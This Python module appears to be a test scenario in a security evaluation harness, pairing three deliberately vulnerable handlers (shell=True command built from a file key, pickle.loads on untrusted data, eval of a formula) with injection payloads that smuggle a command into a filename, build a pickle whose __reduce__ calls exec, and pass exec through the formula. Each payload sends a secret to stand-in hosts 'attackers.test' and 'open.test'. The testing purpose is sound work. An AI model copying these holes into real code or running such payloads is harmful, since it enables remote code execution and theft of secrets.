"""E02: honest handlers whose event carries code: in a file's name, in a pickle, in a formula.

What is injected acts with all that the handler may do; each call it makes is judged like the handler's own.
"""

import base64
import pickle
import subprocess
import sys
import urllib.parse


def attack(hands):
    text = hands.secret()
    for host in ("attackers.test", "open.test"):
        handlers(hands, Event(host, text))


def twin(hands):
    text = hands.secret()
    handlers(hands, Honest())
    hands.call("s3", "PutObject", Bucket="kept-files", Key=hands.trial, Body=text.encode())


def handlers(hands, event):
    """Handlers as they are found in the wild, each given what an outsider sent."""
    for handler in (listed, restored, reckoned):
        try:
            told = handler(event)
        except Exception as error:  # an injected part may well break what it was put into
            told = repr(error)
        hands.statuses.append((handler.__name__, str(told)[:80]))


def listed(event):
    """Tell about an uploaded file by its key."""
    return subprocess.run(f"echo {event.key}", shell=True, stdout=subprocess.PIPE, timeout=10).stdout


def restored(event):
    """Take up a session where it was left."""
    return pickle.loads(base64.b64decode(event.session))


def reckoned(event):
    """Reckon an order's total by its own formula."""
    return eval(event.formula)


class Honest:
    """What a customer sends."""

    key, formula = "photo.jpg", "2 * 3"
    session = base64.b64encode(pickle.dumps({"cart": [1]})).decode()


class Event(Honest):
    """What the attacker sends: each field is code that takes the secret along."""

    def __init__(self, host, text):
        # Why the text stands here: injected code would read it out of memory, which is not the point.
        url = f"https://{host}/{{}}/{urllib.parse.quote(text)}"
        self.key = f"x; {sys.executable} -c \"{get(url.format('shell'))}\""
        self.session = base64.b64encode(pickle.dumps(Restored(get(url.format("pickle"))))).decode()
        self.formula = f"exec({get(url.format('formula'))!r})"


class Restored:
    """An object that is code when it is taken out of its pickle."""

    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return exec, (self.code,)


def get(url):
    """Code that asks for a URL."""
    return f"import urllib.request as r; r.urlopen('{url}', timeout=10).read()"
